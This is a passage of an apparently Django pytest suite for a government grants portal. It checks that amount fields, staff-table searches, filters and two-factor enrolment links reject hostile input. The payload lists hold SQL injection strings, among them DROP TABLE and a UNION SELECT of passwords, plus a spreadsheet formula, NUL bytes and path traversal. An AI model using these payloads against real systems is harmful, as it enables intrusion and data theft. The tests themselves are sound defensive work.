    Amount("negative", "-1", NEGATIVE, AT_LEAST_0),
    Amount("negative-grouped", "-4,00,000", NEGATIVE, WHOLE_NUMBER),
    Amount("negative-after-rupee-sign", "Rs -5,000", NEGATIVE, WHOLE_NUMBER),
    Amount("unicode-minus", "\u22124,00,000", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("words", "four lakh", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("paise", "4,00,000.50", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("over-precise", "1.5", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("exponent", "1e3", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("hexadecimal", "0x1F", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("python-power", "10**30", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("not-a-number", "NaN", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("infinity", "Infinity", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("formula", "=1+1", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("sql", "4,00,000; DROP TABLE grants_project", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("nul-byte", "4\x00", WHOLE_RUPEES, WHOLE_NUMBER),
    Amount("absurdly-large", str(10**30), TOO_LARGE, TOO_LARGE),
    Amount("just-over-64-bits", str(2**63), TOO_LARGE, TOO_LARGE),
    Amount("over-a-lakh-crore", str(10**12 + 1), TOO_LARGE, TOO_LARGE),
    Amount("blank", "", REQUIRED, REQUIRED),
    Amount("whitespace", "  \t ", REQUIRED, WHOLE_NUMBER),
    Amount("devanagari-digits", "४,००,०००", None, WHOLE_NUMBER, kept_as=400_000),
]


@pytest.mark.parametrize("amount", [a for a in AMOUNTS if a.on_certificate], ids=ids)
def test_a_hostile_figure_on_a_certificate_is_refused_with_nothing_written(
    client, grantee, uc_milestone, amount
):
    login(client, grantee)
    before = footprint()

    # Opening and closing balance move together, so the sum still balances.
    response = post_multipart(
        client,
        reverse("portal:milestone-certificate-submit", args=[uc_milestone.pk]),
        uc_fields(
            uc_milestone.project,
            opening_balance=amount.typed,
            closing_balance=amount.typed,
        ),
        [signed_copy()],
    )

    assert_refused(
        response, before, field="opening_balance", message=amount.on_certificate
    )
    uc_milestone.refresh_from_db()
    assert uc_milestone.status == Milestone.Status.PENDING


@pytest.mark.parametrize("amount", [a for a in AMOUNTS if a.kept_as], ids=ids)
def test_a_figure_in_other_digits_is_kept_as_the_number_it_is(
    client, grantee, uc_milestone, amount
):
    login(client, grantee)

    response = post_multipart(
        client,
        reverse("portal:milestone-certificate-submit", args=[uc_milestone.pk]),
        uc_fields(
            uc_milestone.project,
            opening_balance=amount.typed,
            closing_balance=amount.typed,
        ),
        [signed_copy()],
    )

    assert response.status_code == 302
    certificate = UtilisationCertificate.objects.get()
    assert certificate.opening_balance == amount.kept_as
    shown = client.get(reverse("portal:certificate-detail", args=[certificate.pk]))
    assert "4,00,000" in shown.content.decode()


@pytest.mark.parametrize("amount", AMOUNTS, ids=ids)
def test_a_hostile_refund_on_closure_is_refused_and_the_project_stays_open(
    client, finance_officer, amount
):
    project = project_ready_to_close()
    login(client, finance_officer)
    before = footprint()

    response = post_urlencoded(
        client,
        reverse("staff:project-close", args=[project.pk]),
        {
            "closed_on": "2026-11-22",
            "unspent_refunded": amount.typed,
            "interest_refunded": "10000",
            "refund_reference": "BharatKosh 2611220012345",
            "asset_disposition": "ICP-MS retained by the institute (GFR 233).",
        },
    )

    assert_refused(
        response,
        before,
        field="unspent_refunded",
        message=amount.on_closure,
    )
    project.refresh_from_db()
    assert project.status == Project.Status.COMPLETED


# Searching the staff tables -----------------------------------------------------------


@pytest.fixture
def searchable(db):
    """Projects, organisations and their rows whose names hold SQL metacharacters."""
    made = {}
    for tag, title, name in [
        ("PCT", "Recovery at 95% yield", "Lab 95% Pure"),
        ("UND", "Nd_Pr separation", "Nd_Pr Works"),
        ("BSL", "Run C:\\lab\\batch", "C:\\Labs Institute"),
        ("APO", "O'Brien magnet alloys", "O'Brien Institute"),
        ("PLN", "Plain beneficiation", "Plain Institute"),
    ]:
        organisation = OrganisationFactory(name=name, slug=f"org-{tag.lower()}")
        project = ProjectFactory(
            reference=f"SQL-{tag}",
            title=title,
            organisation=organisation,
            principal_investigator=UserFactory(display_name="Dr Meena Iyer"),
        )
        milestone = MilestoneFactory(project=project)
        InstalmentFactory(project=project, sequence=1)
        UtilisationCertificateFactory(project=project)
        ReminderFactory(milestone=milestone)
        made[tag] = project
    return made


SEARCHES = [
    # (id, typed, tags of the projects that literally contain it)
    ("percent", "%", {"PCT"}),
    ("underscore", "_", {"UND"}),
    ("backslash", "\\", {"BSL"}),
    ("apostrophe", "'", {"APO"}),
    ("double-percent", "%%", set()),
    ("like-wildcards", "_%_", set()),
    ("or-1-equals-1", "' OR 1=1 --", set()),
    ("or-string-equals", "' OR 'a'='a", set()),
    ("drop-table", "'; DROP TABLE grants_project; --", set()),
    ("union-select", "x' UNION SELECT password FROM grants_user --", set()),
    ("double-quote", '" OR ""="', set()),
]

TABLES = [
    # (id, URL name, search parameter, how a row names its project)
    ("projects", "staff:project-list", "q", lambda row: row.reference),
    (
        "milestones",
        "staff:milestone-list",
        "project",
        lambda row: row.project.reference,
    ),
    (
        "instalments",
        "staff:instalment-list",
        "project",
        lambda row: row.project.reference,
    ),
    (
        "certificates",
        "staff:certificate-list",
        "project",
        lambda row: row.project.reference,
    ),
    ("organisations", "staff:organisation-list", "q", lambda row: row.slug),
    (
        "reminders",
        "staff:reminder-list",
        "project",
        lambda row: row.milestone.project.reference,
    ),
]


def shown_tags(response, name_of) -> set[str]:
    return {
        name_of(row.record).rsplit("-", 1)[-1].upper()
        for row in response.context["table"].page.object_list
    }


@pytest.mark.parametrize(
    ("search_id", "typed", "expected"), SEARCHES, ids=[s[0] for s in SEARCHES]
)
@pytest.mark.parametrize(
    ("table", "url_name", "parameter", "name_of"), TABLES, ids=[t[0] for t in TABLES]
)
def test_a_staff_table_search_takes_sql_metacharacters_literally(
    client,
    programme_officer,
    searchable,
    table,
    url_name,
    parameter,
    name_of,
    search_id,
    typed,
    expected,
):
    login(client, programme_officer)

    response = client.get(reverse(url_name), {parameter: typed})

    assert response.status_code == 200
    assert shown_tags(response, name_of) == expected
    assert Project.objects.count() == len(searchable)


@pytest.mark.parametrize(
    ("table", "url_name", "parameter", "name_of"), TABLES, ids=[t[0] for t in TABLES]
)
def test_a_staff_table_search_with_a_nul_byte_says_so_and_shows_no_rows(
    client, programme_officer, searchable, table, url_name, parameter, name_of
):
    login(client, programme_officer)

    response = client.get(reverse(url_name), {parameter: "SQL\x00-PCT"})

    assert response.status_code == 200
    assert "Null characters are not allowed." in response.content.decode()
    assert shown_tags(response, name_of) == set()


def test_the_payload_lists_are_long_enough_to_mean_something():
    assert len(TEXTS) + len(HOSTILE_FILES) + len(DISGUISED_NAMES) + len(AMOUNTS) >= 30
    assert len({t.id for t in TEXTS}) == len(TEXTS)
    assert len({f.id for f in HOSTILE_FILES}) == len(HOSTILE_FILES)


class FilterFields(HTMLParser):
    """Collect the names of the fields of a page's filter form."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.names = set()

    def handle_starttag(self, tag, attrs):
        name = dict(attrs).get("name")
        if tag in ("input", "select", "textarea") and name:
            self.names.add(name)


def filter_fields(page: str) -> set[str]:
    parser = FilterFields()
    parser.feed(page)
    return parser.names - {"csrfmiddlewaretoken"}


FILTER_PAYLOADS = [
    ("or-1-equals-1", "' OR 1=1 --"),
    ("drop-table", "1; DROP TABLE grants_project; --"),
    ("percent", "%"),
    ("nul-byte", "1\x00"),
    ("very-long", "9" * 5000),
    ("negative", "-1"),
]


@pytest.mark.parametrize(
    ("payload_id", "typed"), FILTER_PAYLOADS, ids=[p[0] for p in FILTER_PAYLOADS]
)
@pytest.mark.parametrize(
    ("table", "url_name", "parameter", "name_of"), TABLES, ids=[t[0] for t in TABLES]
)
def test_every_filter_sort_and_page_parameter_of_a_staff_table_survives_sql(
    client,
    programme_officer,
    searchable,
    table,
    url_name,
    parameter,
    name_of,
    payload_id,
    typed,
):
    login(client, programme_officer)
    url = reverse(url_name)
    fields = filter_fields(client.get(url).content.decode())
    assert parameter in fields

    for name in sorted(fields | {"sort", "page", "_export"}):
        response = client.get(url, {name: typed})
        if name == "page":
            # Django answers a page that is not a page number with a 404.
            assert response.status_code in (200, 404), name
            continue
        assert response.status_code == 200, name
        if name == "_export":
            continue
        assert active_markup(response.content.decode()) == []
        assert shown_tags(response, name_of) <= {"PCT", "UND", "BSL", "APO", "PLN"}
    assert Project.objects.count() == len(searchable)


# Enrolling a second factor with the password only (staff, 2FA required) --------------

THE_LINK = "the-officers-enrolment-link-from-the-e-mail"

# What someone with the password alone might put where the e-mailed link's token goes.
ENROLMENT_LINKS = {
    "no link at all": None,
    "a made-up token": "A" * 43,
    "the real token in capitals": THE_LINK.upper(),
    "the real token cut short": THE_LINK[:-1],
    "the stored hash of the real token": hashlib.sha256(THE_LINK.encode()).hexdigest(),
    "a colleague's token": "a-colleagues-enrolment-link",
    "SQL": "x' OR '1'='1",
    "a NUL byte": "%00",
    "a path up the tree": "..%2F..%2Fadmin",
    "ten thousand characters": "a" * 10_000,
}


@pytest.mark.parametrize("link", list(ENROLMENT_LINKS), ids=list(ENROLMENT_LINKS))
def test_enrolment_without_an_invitation_links_no_device(client, settings, link):
    settings.KHANIJ_STAFF_2FA_REQUIRED = True
    officer = StaffUserFactory()
    real = TwoFactorInvitationFactory(user=officer, token=THE_LINK)
    TwoFactorInvitationFactory(token="a-colleagues-enrolment-link")
    login(client, officer)

    token = ENROLMENT_LINKS[link]
    if token is not None:
        opened = client.get(f"/accounts/two-factor/enrol/{token}/")
        assert opened.status_code in (302, 403, 404)
        assert opened.get("Location") != reverse("two-factor-setup")
    page = client.get(reverse("two-factor-setup"))
    posted = client.post(reverse("two-factor-setup"), {"token": "123456"})

    assert page.status_code == posted.status_code == 403
    assert not TOTPDevice.objects.filter(user=officer).exists()
    assert not StaticDevice.objects.filter(user=officer).exists()
    real.refresh_from_db()
    assert real.used_at is None


# Locking someone else out: wrong passwords from another address -----------------

# Whose name a stranger types, and how the stranger varies it.
LOCKOUT_TARGETS = {
    "a principal investigator": ("pi-iast", False, "pi-iast"),
    "a staff officer": ("po-ministry", True, "po-ministry"),
    "the name in capitals": ("pi-iast", False, "PI-IAST"),
    "the name with spaces around it": ("pi-iast", False, " pi-iast "),
}


@pytest.mark.parametrize("target", list(LOCKOUT_TARGETS), ids=list(LOCKOUT_TARGETS))
def test_wrong_passwords_from_a_strangers_address_never_lock_the_owner_out(
    client, settings, target
):
    settings.AXES_ENABLED = True
    username, is_staff, typed = LOCKOUT_TARGETS[target]
    UserFactory(username=username, is_staff=is_staff)
    for _ in range(20):
        client.post(
            reverse("login"),
            {"username": typed, "password": "wrong"},
            REMOTE_ADDR="10.0.0.1",
        )

    owner = client.post(
        reverse("login"),
        {"username": username, "password": "test-pass-123"},
        REMOTE_ADDR="10.0.0.2",
    )

    assert owner.status_code == 302
    assert client.session["_auth_user_id"]
